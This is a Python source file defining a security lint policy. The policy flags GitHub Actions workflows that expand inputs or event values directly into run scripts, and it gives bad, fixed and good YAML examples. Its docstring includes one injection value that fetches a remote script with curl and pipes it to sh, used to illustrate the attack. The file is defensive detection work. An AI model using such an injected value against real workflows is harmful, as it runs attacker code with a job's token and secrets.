from collections.abc import Iterator

from aurora_devops import Finding, bad, good, policy
from aurora_devops.kinds.github import Expression

from ._inputs import inputs_in_script

_CALLED = """\
name: Release
on:
  workflow_call:
    inputs:
      version:
        type: string
jobs:
  release:
    runs-on: ubuntu-24.04
    steps:
"""


@policy(
    "GHA076",
    severity="warning",
    category="security",
    equivalents={"zizmor": "template-injection"},
    examples=[
        bad(
            _CALLED + '      - run: make release VERSION="${{ «inputs.version» }}"\n',
            fixed=_CALLED
            + '      - run: make release VERSION="${INPUTS_VERSION}"\n'
            + "        env:\n          INPUTS_VERSION: ${{ inputs.version }}\n",
        ),
        bad(
            """\
            name: Greet
            description: Greets
            inputs:
              who:
                description: whom
            runs:
              using: composite
              steps:
                - run: echo "${{ «inputs.who» }}"
                  shell: bash
            """,
            fixed="""\
            name: Greet
            description: Greets
            inputs:
              who:
                description: whom
            runs:
              using: composite
              steps:
                - run: echo "${INPUTS_WHO}"
                  env:
                    INPUTS_WHO: ${{ inputs.who }}
                  shell: bash
            """,
            kind="github-action",
        ),
        bad(
            _CALLED
            + "      - run: |\n"
            + '          make release VERSION="${{ «inputs.version» }}"\n'
            + '          make publish VERSION="${{ inputs.version }}"\n',
            because="one finding for each script",
        ),
        bad(
            """\
            on:
              issues:
                types: [labeled]
            jobs:
              triage:
                runs-on: ubuntu-24.04
                steps:
                  - run: ./triage.sh ${{ «github.event.label.name» }}
            """,
        ),
        good(
            """\
            on:
              workflow_call:
                inputs:
                  version:
                    type: string
                  count:
                    type: number
            jobs:
              release:
                runs-on: ubuntu-24.04
                steps:
                  - run: make release VERSION="$VERSION" COUNT=${{ inputs.count }}
                    env:
                      VERSION: ${{ inputs.version }}
            """,
            because="a number cannot be a command, and the shell quotes the variable",
        ),
        good(
            """\
            on: pull_request
            jobs:
              comment:
                runs-on: ubuntu-24.04
                steps:
                  - run: gh pr comment "${{ github.event.pull_request.html_url }}" --body-file plan.txt
                  - run: git remote add fork ${{ github.event.pull_request.head.repo.clone_url }}
            """,
            because="GitHub makes the addresses of the number of the pull request and the name of the repository",
        ),
        *(
            good(
                f"""\
                on:
                  pull_request_target:
                    types: [labeled]
                jobs:
                  first:
                    if: {job}
                    runs-on: ubuntu-24.04
                    steps:
                      - run: make check
                  second:
                    needs: first
                    runs-on: ubuntu-24.04
                    steps:
                      - if: {step}
                        run: ./preview.sh ${{{{ github.event.label.name }}}}
                """,
                because="the value is one of those that the condition names",
            )
            for job, step in (
                ("github.event.label.name == 'preview' || github.event.label.name == 'public'", "success()"),
                ("github.actor != 'shop-bot'", "github.event.label.name == 'preview' && github.actor != 'x'"),
            )
        ),
        bad(
            """\
            on:
              pull_request_target:
                types: [labeled]
            jobs:
              preview:
                if: github.event.label.name == 'preview' || github.actor == 'shop'
                runs-on: ubuntu-24.04
                steps:
                  - run: ./preview.sh ${{ «github.event.label.name» }}
            """
        ),
        good(
            """\
            on:
              workflow_dispatch:
                inputs:
                  version:
                    type: string
            jobs:
              release:
                runs-on: ubuntu-24.04
                steps:
                  - run: make release VERSION="${{ inputs.version }}"
            """,
            because="people who may write to the repository start the workflow: `own-input-in-script` reports it",
        ),
    ],
)
def input_in_script(expression: Expression) -> Iterator[Finding]:
    """An input or a value of the event is expanded into a script before it runs.

    The caller decides the value: `1"; curl https://example.com/x | sh; "` as a version runs commands with the
    token and the secrets of the job, and a quote in a harmless value breaks the script.
    Pass the value in an environment variable and quote that.
    Reported once for each expression in a script: the inputs of actions and reusable workflows that no file of the
    repository calls, and values of events. `own-input-in-script` reports values that only people with write access set.
    Inputs of the types `boolean`, `number`, `choice` and `environment` are not reported, nor are values that the
    condition of the job, of one that it needs, or of the step compares with constants.
    The fix passes a value that the shell expands as an argument in a variable of the step; its name may not be the
    best one, so the fix is not applied by default.

    https://docs.github.com/en/actions/concepts/security/script-injections
    """
    return inputs_in_script(expression, by_members=False)
